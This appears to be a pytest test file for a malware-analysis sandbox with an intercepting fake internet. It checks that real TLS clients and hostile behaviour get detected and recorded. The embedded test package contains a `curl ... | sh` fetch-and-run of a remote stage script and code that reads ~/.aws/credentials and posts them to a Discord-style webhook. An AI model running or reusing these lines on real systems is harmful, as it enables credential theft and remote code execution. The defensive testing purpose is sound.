"""End to end: real TLS clients inside the sandbox against the intercepting fake internet.

One harmless package (built here) depends on requests from the shared corpus and, on import,
talks HTTPS with every client a package brings: requests (its certifi bundle and
REQUESTS_CA_BUNDLE), urllib, pip's vendored certifi, curl (`curl https://.../stage.sh | sh`),
Node https, and a client that pins a CA of its own. It then "steals" the planted AWS key and
posts it to a Discord-style webhook over HTTPS. Each test checks what the run recorded.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from builders import make_wheel
from osptrack.jsonio import read_jsonl
from osptrack.run import AnalyzeOptions, analyze
from osptrack.sandbox.fakenet.ca import CertAuthority
from osptrack.target import parse_target

pytestmark = pytest.mark.sandbox

CORPUS_REQUESTS = Path(__file__).resolve().parents[2] / ".." / "shared" / "corpus" / "pypi" / "requests"
HOST = "tls-clients.example.com"

# Everything below runs inside the sandbox only. Results go to stdout as one JSON line.
CLIENTS = r"""
import json, os, ssl, subprocess, urllib.request

PINNED_CA = __PINNED__
H = "tls-clients.example.com"
seen = {}

def attempt(key, fn):
    try:
        seen[key] = fn()
    except Exception as exc:
        seen[key] = "error: " + type(exc).__name__ + ": " + str(exc)[:150]

def req_requests():
    import requests
    r = requests.get("https://api." + H + "/api/v1/status", timeout=10)
    return [r.status_code, r.text]

def req_requests_certifi():
    import certifi, requests
    r = requests.get("https://certifi." + H + "/api/ping", timeout=10, verify=certifi.where())
    return [r.status_code, r.text, certifi.where()]

def req_urllib():
    with urllib.request.urlopen("https://www." + H + "/index.html", timeout=10) as resp:
        return [resp.status, resp.headers.get("Content-Type"), b"<html" in resp.read()]

def req_pip_certifi():
    from pip._vendor import certifi
    ctx = ssl.create_default_context(cafile=certifi.where())
    with urllib.request.urlopen("https://pip." + H + "/simple/", timeout=10, context=ctx) as resp:
        return [resp.status]

def req_curl_stage():
    out = subprocess.run(["/bin/sh", "-c", "curl -sS https://stage." + H + "/stage.sh | sh; echo rc=$?"],
                         capture_output=True, text=True, timeout=30)
    return out.stdout.strip() + out.stderr.strip()[:200]

def req_node():
    js = ("require('https').get('https://node." + H + "/api/node', r => {let b='';"
          "r.on('data', d => b += d); r.on('end', () => console.log(r.statusCode + ' ' + b));})"
          ".on('error', e => console.log('error ' + e.code));")
    return subprocess.run(["node", "-e", js], capture_output=True, text=True, timeout=30).stdout.strip()

def req_pinned():
    ctx = ssl.create_default_context(cadata=PINNED_CA)  # trusts only its own CA: a pinning client
    try:
        urllib.request.urlopen("https://pinned." + H + "/", timeout=10, context=ctx)
        return "accepted?!"
    except urllib.error.URLError as exc:
        return "rejected: " + type(exc.reason).__name__

def req_webhook():
    creds = open(os.path.expanduser("~/.aws/credentials")).read()
    body = json.dumps({"content": creds}).encode()
    req = urllib.request.Request("https://discord.com/api/webhooks/1234567890/AbCdEf-token", data=body,
                                 headers={"Content-Type": "application/json"}, method="POST")
    with urllib.request.urlopen(req, timeout=10) as resp:
        return [resp.status, resp.read().decode()]

for key, fn in [("requests", req_requests), ("requests_certifi", req_requests_certifi), ("urllib", req_urllib),
                ("pip_certifi", req_pip_certifi), ("curl_stage", req_curl_stage), ("node", req_node),
                ("pinned", req_pinned), ("webhook", req_webhook)]:
    attempt(key, fn)
print("TLS-CLIENTS " + json.dumps(seen))
"""


@pytest.fixture(scope="module")
def tls_run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    if not CORPUS_REQUESTS.is_dir():
        pytest.skip("../shared/corpus/pypi/requests is absent (the shared corpus is not beside the checkout)")
    src = tmp_path_factory.mktemp("tls-src")
    pinned = CertAuthority().cert_pem.decode()  # some other CA: the pinning client trusts only this
    code = CLIENTS.replace("__PINNED__", repr(pinned))
    # A certifi the persona does not have (requests itself is the persona's): pip installs it
    # into the writable user site, whose bundle gets the run's CA between phases.
    own = tmp_path_factory.mktemp("tls-deps")
    certifi = {
        "certifi/__init__.py": "import os\ndef where():\n    return os.path.join(os.path.dirname(__file__), 'cacert.pem')\n",
        "certifi/cacert.pem": Path("/etc/ssl/certs/ca-certificates.crt").read_text(),
    }
    make_wheel(own, "certifi", "2099.1.1", certifi)
    wheel = make_wheel(
        src,
        "osptrack-tls-clients",
        "1.0.0",
        {"osptrack_tls_clients/__init__.py": code},
        requires=("requests", "certifi==2099.1.1"),
    )
    out = tmp_path_factory.mktemp("tls-runs") / "run"
    options = AnalyzeOptions(timeout_s=180, deps_dirs=(CORPUS_REQUESTS.resolve(), own))
    outcome = analyze(parse_target("pypi", str(wheel)), options, out)
    result = json.loads((out / "result.json").read_text())
    stdout = base64.b64decode(result["Analysis"]["import"]["Stdout"]).decode(errors="replace")
    lines = [line for line in stdout.splitlines() if line.startswith("TLS-CLIENTS ")]
    assert outcome.statuses.get("install") == "completed", stdout
    assert lines, stdout
    return {
        "seen": json.loads(lines[-1].removeprefix("TLS-CLIENTS ")),
        "network": read_jsonl(out / "network.jsonl"),
        "run": json.loads((out / "run.json").read_text()),
        "events": read_jsonl(out / "events.jsonl"),
    }


def flows(run: dict[str, Any], host: str) -> list[dict[str, Any]]:
    return [r for r in run["network"] if r["kind"] == "tcp" and r.get("hostname") == host]


def test_requests_trusts_the_ca_through_env_and_its_own_certifi(tls_run: dict[str, Any]) -> None:
    seen = tls_run["seen"]
    assert seen["requests"] == [200, "{}"], seen
    assert seen["requests_certifi"][:2] == [200, "{}"], seen
    # certifi came with the install phase into the writable user site: appended to between phases.
    home = tls_run["run"]["persona"]["home"]
    assert seen["requests_certifi"][2].startswith(f"{home}/.local/lib/python3.11/site-packages/certifi/"), (
        seen
    )
    (flow,) = flows(tls_run, f"api.{HOST}")
    assert flow["tls"]["intercepted"] is True and flow["tls"]["sni"] == f"api.{HOST}"
    assert flow["tls"]["alpn"] in (None, "http/1.1")
    (req,) = flow["requests"]
    assert req["method"] == "GET" and req["target"] == "/api/v1/status"
    assert any(k.lower() == "user-agent" and v.startswith("python-requests/") for k, v in req["headers"])
    assert flow["served"] == [{"status": 200, "kind": "api", "content_type": "application/json", "bytes": 2}]


def test_urllib_and_pips_vendored_certifi_trust_the_ca(tls_run: dict[str, Any]) -> None:
    seen = tls_run["seen"]
    assert seen["urllib"] == [200, "text/html; charset=utf-8", True], seen
    assert seen["pip_certifi"] == [200], seen
    (flow,) = flows(tls_run, f"www.{HOST}")
    assert flow["http"] == {"method": "GET", "path": "/index.html", "host": f"www.{HOST}"}
    assert flow["served"][0]["kind"] == "html"


def test_curl_pipe_sh_second_stage_is_proven_executed(tls_run: dict[str, Any]) -> None:
    assert tls_run["seen"]["curl_stage"] == "rc=0", tls_run["seen"]
    (flow,) = flows(tls_run, f"stage.{HOST}")
    assert flow["tls"]["intercepted"] is True
    (served,) = flow["served"]
    assert served["kind"] == "script" and served["lang"] == "sh"
    run = tls_run["run"]
    marker = run["second_stage"]["marker"]
    assert served["marker"] == marker
    assert run["second_stage_executed"] is True
    (write,) = [w for w in run["second_stage"]["writes"] if w["phase"] == "import"]
    assert write["exe"].endswith("sh")  # the shell that ran the served script wrote the marker
    assert any(
        e["kind"] == "file" and e.get("path") == marker and e["op"] == "write" for e in tls_run["events"]
    )


def test_node_https_trusts_the_ca(tls_run: dict[str, Any]) -> None:
    assert tls_run["seen"]["node"] == "200 {}", tls_run["seen"]
    (flow,) = flows(tls_run, f"node.{HOST}")
    assert flow["tls"]["intercepted"] is True and flow["requests"][0]["target"] == "/api/node"


def test_a_pinning_client_is_recorded_as_rejecting(tls_run: dict[str, Any]) -> None:
    assert tls_run["seen"]["pinned"] == "rejected: SSLCertVerificationError", tls_run["seen"]
    (flow,) = flows(tls_run, f"pinned.{HOST}")
    assert flow["tls"]["intercepted"] is False
    assert "UNKNOWN_CA" in flow["tls"]["rejected"] or "BAD_CERTIFICATE" in flow["tls"]["rejected"], flow[
        "tls"
    ]
    assert flow["requests"] is None and base64.b64decode(flow["first_bytes"])[:1] == b"\x16"
    assert tls_run["run"]["network"]["tls"]["rejected"] >= 1


def test_https_webhook_exfiltration_is_proven(tls_run: dict[str, Any]) -> None:
    assert tls_run["seen"]["webhook"] == [204, ""], tls_run["seen"]
    (flow,) = flows(tls_run, "discord.com")
    assert flow["served"][0] == {"status": 204, "kind": "webhook", "content_type": None, "bytes": 0,
                                 "service": "discord"}  # fmt: skip
    run = tls_run["run"]
    secret = next(t["value"] for t in run["honeytokens"] if t["kind"] == "aws_secret_access_key")
    body = base64.b64decode(flow["requests"][0]["body"])
    assert secret.encode() in body.replace(b"\\n", b"\n")
    found = [f for f in run["exfiltration"] if f["kind"] == "aws_secret_access_key"]
    assert any(f["flow"]["dst_port"] == 443 and f["phase"] == "import" for f in found), run["exfiltration"]


def test_every_intercepted_flow_is_complete_and_nothing_failed(tls_run: dict[str, Any]) -> None:
    run = tls_run["run"]
    assert run["network"]["errors"] == 0, run["network"]
    tls = [r for r in tls_run["network"] if r["kind"] == "tcp" and r.get("tls")]
    assert run["network"]["tls"]["intercepted"] == sum(1 for r in tls if r["tls"]["intercepted"]) >= 7
    for r in tls:
        if r["tls"]["intercepted"]:
            assert r["requests"] and len(r["served"]) == len(r["requests"]), r
